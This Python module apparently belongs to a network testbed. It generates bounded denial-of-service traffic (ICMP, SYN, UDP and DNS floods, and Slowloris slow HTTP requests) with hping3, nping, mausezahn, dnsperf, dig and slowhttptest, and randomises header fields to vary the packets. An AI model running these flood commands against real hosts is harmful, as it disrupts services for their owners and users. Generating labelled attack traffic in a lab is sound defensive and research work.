"""Floods and slow requests: each bounded in packets, rate and time.

iperf3 is not among them: it writes the time of day into each of its datagrams.
"""

from __future__ import annotations

import random

from testbed.attacks.tool import Commands, Target, Tool
from testbed.command_words import words
from testbed.lists import BATCHES

ICMP, SYN, UDP, DNS, SLOW = "ICMP Flood", "SYN Flood", "UDP Flood", "DNS Flood", "Slowloris"
FLOOD, NETWORK, EXHAUST, SERVICE = "T1498.001", "T1498", "T1499.001", "T1499.002"
# A burst is one call of a tool; a flood is several, each with header fields of its own.
BURSTS = 8
# A bare SYN has little to vary but its window, options and payload: many short bursts.
SYN_BURSTS = 40
LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"
RATES = (150, 220, 300)
# mausezahn waits whole milliseconds.
SLOW_RATES = (125, 200, 250)


def _micros(rate: int) -> str:
    return f"u{1_000_000 // rate}"


def _millis(rate: int) -> str:
    return f"{1000 // rate}msec"


def _bursts(total: int, number: int = BURSTS) -> list[int]:
    return [total // number] * number


def _padding(flag: str, rng: random.Random) -> str:
    """Now and then a SYN bears data, which no well-behaved one does: it must not be the rule."""
    return f"{flag} {rng.randrange(1, 90)}" if rng.random() < 0.3 else ""


def _port(rng: random.Random) -> int:
    # A range of source ports would be walked whole, whatever the count.
    return rng.randrange(1025, 65000)


def _ping(target: Target, s: dict, rng: random.Random) -> Commands:
    # From 16 bytes on it writes the time of day into each.
    return [
        words(
            f"ping {target.family or '-4'} -q -n -c {count} -i {1 / s['rate']:.4f} "
            f"-s {max(1, s['size'] - rng.randrange(8))} -p {rng.randrange(65536):04x} "
            f"-W 1 {target.address}"
        )
        for count in _bursts(s["packets"])
    ]


def _hping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
    def burst(count: int) -> list[str]:
        data = f"-d {s['size'] + rng.randrange(48)}"
        if rng.random() < 0.5:
            data += f" -E {target.files}/random.bin"
        return words(
            f"hping3 -q -n -1 -C {s['type']} -c {count} -i {_micros(s['rate'])} "
            f"{data if s['type'] == 8 else ''} -t {rng.choice((32, 64, 128, 255))} {target.address}"
        )

    return [burst(count) for count in _bursts(s["packets"])]


def _nping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"nping --icmp -H --quiet --rate {s['rate']} -c {count} "
            f"--icmp-id {rng.randrange(65536)} --data-length {rng.randrange(4, s['size'])} "
            f"{target.address}"
        )
        for count in _bursts(s["packets"], 2 * BURSTS)
    ]


def _hping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
    def burst(count: int) -> list[str]:
        options = {
            "none": "",
            "mss": f"--tcp-mss {rng.randrange(536, 1461)}",
            "timestamp": f"--tcp-timestamp --tcp-mss {rng.randrange(536, 1461)}",
            "payload": _padding("-d", rng),
        }[s["options"]]
        return words(
            f"hping3 -q -n -S -p {s['port']} -c {count} -i {_micros(s['rate'])} "
            f"-w {rng.randrange(64, 65536)} {options} {target.address}"
        )

    return [burst(count) for count in _bursts(s["packets"], SYN_BURSTS)]


def _nping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"nping {target.family} --tcp -H --quiet -p {s['port']} --flags {s['flags']} "
            f"--win {rng.randrange(1, 65536)} --rate {s['rate']} -c {count} "
            f"{_padding('--data-length', rng) if s['payload'] else ''} {target.address}"
        )
        for count in _bursts(s["packets"], SYN_BURSTS)
    ]


def _mausezahn_syn(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"mausezahn {target.frame} -c {count} -d {_millis(s['rate'])} "
            f"{_padding('-p', rng) if s['payload'] else ''} "
            f"-t tcp flags=syn,dp={s['port']},sp={_port(rng)},win={rng.randrange(1, 65536)}"
        )
        for count in _bursts(s["packets"], SYN_BURSTS)
    ]


def _hping_udp(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"hping3 -q -n -2 -p {'++' if s['walk'] else ''}{s['port']} -c {count} "
            f"-i {_micros(s['rate'])} -d {s['size'] + rng.randrange(64)} "
            f"-E {target.files}/random.bin {target.address}"
        )
        for count in _bursts(s["packets"])
    ]


def _nping_udp(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"nping {target.family} --udp -H --quiet -p {s['port']} --rate {s['rate']} -c {count} "
            f"--data-length {rng.randrange(1, s['size'])} {target.address}"
        )
        for count in _bursts(s["packets"])
    ]


def _mausezahn_udp(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"mausezahn {target.frame} -c {count} -d {_millis(s['rate'])} "
            f"-p {rng.randrange(1, s['size'])} -t udp dp={s['port']},sp={_port(rng)}"
        )
        for count in _bursts(s["packets"])
    ]


def _dnsperf(target: Target, s: dict, rng: random.Random) -> Commands:
    return [
        words(
            f"dnsperf -s {target.address} -d {target.files}/{s['names']}.txt -m {s['transport']} "
            f"-Q {s['rate']} -l {s['packets'] // s['rate']} -c {s['clients']} -T 1"
        )
    ]


def _mausezahn_dns(target: Target, s: dict, rng: random.Random) -> Commands:
    def query() -> list[str]:
        name = "".join(rng.choices(LETTERS, k=rng.randrange(4, 20)))
        return words(
            f"mausezahn {target.frame} -c {max(1, s['packets'] // 40)} -d {_millis(s['rate'])} "
            f"-t dns q={name}.{s['zone']}"
        )

    return [query() for _ in range(40)]


def _dig(target: Target, s: dict, rng: random.Random) -> Commands:
    # It asks as fast as it is answered, and for ANY over TCP: small batches, and UDP.
    return [
        words(
            f"dig @{target.address} -f {target.files}/{s['names']}-{batch}.txt -t {s['type']} "
            f"+notcp +tries=1 +time=1 +short {'+dnssec' if s['dnssec'] else ''}"
        )
        for batch in range(BATCHES)
    ]


def _slowhttptest(target: Target, s: dict, rng: random.Random) -> Commands:
    mode = {
        "header": f"-H -x {rng.randrange(8, 40)} -t {rng.choice(('GET', 'POST'))}",
        "body": f"-B -s {rng.randrange(2048, 16384)} -x {rng.randrange(4, 24)} -t POST",
        "read": "-X -w 8 -y 64 -n 2 -z 16 -k 2 -t GET",
    }[s["mode"]]
    return [
        words(
            f"slowhttptest {mode} -c {s['connections']} -r {s['rate']} -i {s['interval']} "
            f"-l {s['seconds']} -p 2 -u http://{target.in_url}:{s['port']}{s['path']}"
        )
    ]


def _slow(mode: str, paths: tuple[str, ...]) -> Tool:
    return Tool(
        "slowhttptest",
        f"slow {mode}",
        SLOW,
        SERVICE,
        "web",
        "tcp",
        (80,),
        {
            "mode": (mode,),
            "connections": (30, 50, 80),
            "rate": (20, 50),
            "interval": (2, 4),
            "seconds": (20, 30),
            "port": (80,),
            "path": paths,
        },
        _slowhttptest,
        40,
        ipv6=True,
    )


_PACKETS = {"packets": (480, 640, 960)}

# name, mode, class, technique, service, protocol, ports, settings, commands, seconds
TOOLS = (
    Tool("ping", "echo requests with a pattern", ICMP, FLOOD, "", "icmp", (),
         {**_PACKETS, "rate": (120, 180), "size": (15, 56, 900)}, _ping, 25, ipv6=True),
    Tool("hping3", "echo and timestamp requests", ICMP, FLOOD, "", "icmp", (),
         {**_PACKETS, "rate": RATES, "size": (16, 64, 400), "type": (8, 13)},
         _hping_icmp, 25),
    Tool("nping", "echo requests with random data", ICMP, FLOOD, "", "icmp", (),
         {**_PACKETS, "rate": RATES, "size": (32, 600)}, _nping_icmp, 25),
    Tool("hping3", "SYNs with options or payload", SYN, EXHAUST, "web", "tcp", (80,),
         {**_PACKETS, "rate": RATES, "port": (80,),
          "options": ("none", "mss", "timestamp", "payload")}, _hping_syn, 25),
    Tool("nping", "SYNs with flags beside", SYN, EXHAUST, "web", "tcp", (80,),
         {**_PACKETS, "rate": RATES, "port": (80,), "payload": (False, True),
          "flags": ("syn", "syn,ece,cwr", "syn,psh")}, _nping_syn, 25, ipv6=True),
    Tool("mausezahn", "SYNs, a source port and a window a burst", SYN, EXHAUST, "web", "tcp", (80,),
         {**_PACKETS, "rate": SLOW_RATES, "port": (80,), "payload": (False, True)},
         _mausezahn_syn, 25),
    Tool("hping3", "datagrams to one or rising ports", UDP, FLOOD, "", "udp", (),
         {**_PACKETS, "rate": RATES, "port": (9, 4000, 20000), "walk": (False, True),
          "size": (8, 120, 700)}, _hping_udp, 25),
    Tool("nping", "datagrams with random data", UDP, FLOOD, "", "udp", (7, 1900, 5683, 33434),
         {**_PACKETS, "rate": RATES, "port": (7, 1900, 5683, 33434), "size": (64, 1000)},
         _nping_udp, 25, ipv6=True),
    Tool("mausezahn", "datagrams of a size a burst", UDP, FLOOD, "", "udp", (19, 123, 5060),
         {**_PACKETS, "rate": SLOW_RATES, "port": (19, 123, 5060), "size": (64, 900)},
         _mausezahn_udp, 25),
    Tool("dnsperf", "many names", DNS, NETWORK, "dns", "any", (53,),
         {**_PACKETS, "rate": RATES, "clients": (1, 8), "names": ("random", "known"),
          "transport": ("udp", "tcp")}, _dnsperf, 25, ipv6=True),
    Tool("mausezahn", "queries for names that are not there", DNS, NETWORK, "dns", "udp", (53,),
         {**_PACKETS, "rate": SLOW_RATES, "zone": ("lab.example", "example.org")},
         _mausezahn_dns, 30),
    Tool("dig", "batches of queries", DNS, NETWORK, "dns", "udp", (53,),
         {"names": ("random", "known"), "type": ("A", "ANY", "TXT", "AAAA"),
          "dnssec": (False, True)}, _dig, 25, ipv6=True, pause=0.1),
    _slow("header", ("/", "/index.html")),
    _slow("body", ("/", "/login")),
    _slow("read", ("/firmware.bin", "/big.bin")),
)  # fmt: skip
